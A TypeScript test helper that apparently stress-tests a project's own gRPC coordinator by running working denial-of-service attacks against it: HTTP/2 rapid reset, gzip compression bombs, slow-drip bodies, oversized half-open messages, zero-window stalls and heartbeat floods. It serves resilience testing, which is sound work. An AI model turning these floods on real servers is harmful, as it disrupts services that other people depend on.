/** A peer that wants a coordinator to fall over, in a process of its own. `node attacker.ts KIND ADDRESS`; it goes on until it is ended. */
import { once } from 'node:events';
import { connect as connectHttp2, type ClientHttp2Session } from 'node:http2';
import { gzipSync } from 'node:zlib';
import { agentCodec } from '../../shared/rpc/codec-agent.ts';
import { WIRE_MINOR, WIRE_VERSION, type AgentMessage } from '../../shared/rpc/messages.ts';
import { attack, AttackingProcess } from './attacking-process.ts';
import { callHeaders, END_HEADERS, frame, FRAME, message, RawPeer, roomIn } from './raw-http2.ts';

const GET = '/assay.v1.EvaluationService/GetEvaluation';
const SUBMIT = '/assay.v1.EvaluationService/SubmitEvaluation';
const UPLOAD = '/assay.v1.EvaluationService/UploadContent';
const CONNECT = '/assay.v1.AgentService/Connect';
const HELLO: AgentMessage = {
  ...{ kind: 'hello', agentId: `ag_${process.pid.toString(16).padStart(16, '0')}`, instanceId: 'hostile', name: 'hostile', version: '0' },
  ...{ wireVersion: WIRE_VERSION, wireMinor: WIRE_MINOR, labels: {}, models: [{ match: 'none/such', maxConnections: 1, lookAhead: 0 }] },
  ...{ slots: 0, heldAttempts: [], capabilities: [], host: {}, canSpare: false, number: 1 },
};

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

function session(address: string, settings: object = {}): ClientHttp2Session {
  const made = connectHttp2(`http://${address}`, { settings });
  made.on('error', () => undefined);
  return made;
}

const call = (on: ClientHttp2Session, path: string, more: object = {}) => {
  const stream = on.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...more });
  stream.on('error', () => undefined);
  return stream;
};

/** Calls at a time on each of some connections, made anew as they end. */
async function crowd(
  address: string,
  connections: number,
  each: number,
  one: (on: ClientHttp2Session) => void,
  settings = {},
): Promise<void> {
  for (;;) {
    const sessions = Array.from({ length: connections }, () => session(address, settings));
    const ends = sessions.map((on) => once(on, 'close').catch(() => undefined));
    for (const on of sessions) for (let i = 0; i < each && !on.destroyed; i++) one(on);
    await Promise.race([Promise.all(ends), pause(8000)]);
    for (const on of sessions) on.destroy();
  }
}

/** Most of a message of four megabytes. */
const HALF_OPEN = message(Buffer.alloc(4_000_000)).subarray(0, 3_900_000);

const KINDS: Record<string, (address: string) => Promise<void>> = {
  /** Strings of 100 MB, announced and sent as far as they are taken; and again. */
  'long strings': (address) =>
    crowd(address, 4, 4, (on) => {
      const stream = call(on, GET);
      const head = Buffer.alloc(5);
      head.writeUInt32BE(100_000_000, 1);
      stream.write(head);
      const piece = Buffer.alloc(1 << 20, 'a');
      for (let i = 0; i < 100; i++) stream.write(piece);
    }),
  /** Messages that are never whole, and larger than these may be. */
  'half-open calls': (address) => crowd(address, 8, 100, (on) => call(on, GET).write(HALF_OPEN)),
  /** The same where they may be as large. */
  'half-open submissions': (address) => crowd(address, 8, 100, (on) => call(on, SUBMIT).write(HALF_OPEN)),
  'slow bodies': (address) =>
    crowd(address, 8, 100, (on) => {
      const stream = call(on, UPLOAD);
      const drip = setInterval(() => stream.write(Buffer.from([0])), 1000);
      stream.on('close', () => clearInterval(drip));
    }),
  /** A hundred messages of four megabytes, in half of one. */
  'compression bombs': (address) => {
    const bomb = message(gzipSync(Buffer.alloc(4_000_000)), 1);
    return crowd(address, 8, 100, (on) => call(on, UPLOAD, { 'grpc-encoding': 'gzip' }).write(Buffer.concat(Array<Buffer>(20).fill(bomb))));
  },
  'answers that are not taken': (address) =>
    crowd(
      address,
      8,
      100,
      (on) =>
        call(on, '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo').write(
          Buffer.concat(Array<Buffer>(50).fill(message(Buffer.from('\x22\x1aassay.v1.EvaluationService', 'latin1')))),
        ),
      { initialWindowSize: 0 },
    ),
  'rapid reset': async (address) => {
    const headers = callHeaders(GET);
    const reset = Buffer.from([0, 0, 0, 8]);
    for (;;) {
      const peer = await RawPeer.open(address).catch(() => undefined);
      for (let n = 0; peer && !peer.ended && n < 100_000; n += 50) {
        const calls = Array.from({ length: 50 }, (_, i) => 2 * (n + i) + 1);
        const room = peer.socket.write(
          Buffer.concat(calls.flatMap((id) => [frame(FRAME.headers, END_HEADERS, id, headers), frame(FRAME.reset, 0, id, reset)])),
        );
        if (!room && !peer.ended) await roomIn(peer.socket);
        else await new Promise(setImmediate);
      }
      peer?.end();
    }
  },
  /** Heartbeats, as many as the line takes: a million a second if it did. */
  'messages on the agent stream': async (address) => {
    const codec = agentCodec();
    const beats = Buffer.concat(
      Array.from({ length: 2000 }, (_, i) => message(codec.encode({ kind: 'heartbeat', sequence: i, heldAttempts: [] }))),
    );
    for (;;) {
      const on = session(address);
      const stream = call(on, CONNECT);
      stream.resume();
      stream.write(message(codec.encode(HELLO)));
      while (!stream.closed && !on.destroyed) if (!stream.write(beats) && !stream.closed) await roomIn(stream);
      on.destroy();
      await pause(100);
    }
  },
};

export const ATTACKS = Object.keys(KINDS);

export class Attacker extends AttackingProcess {
  constructor(kind: string, address: string) {
    super(import.meta.filename, kind, address);
  }
}

if (import.meta.main) await attack(KINDS);
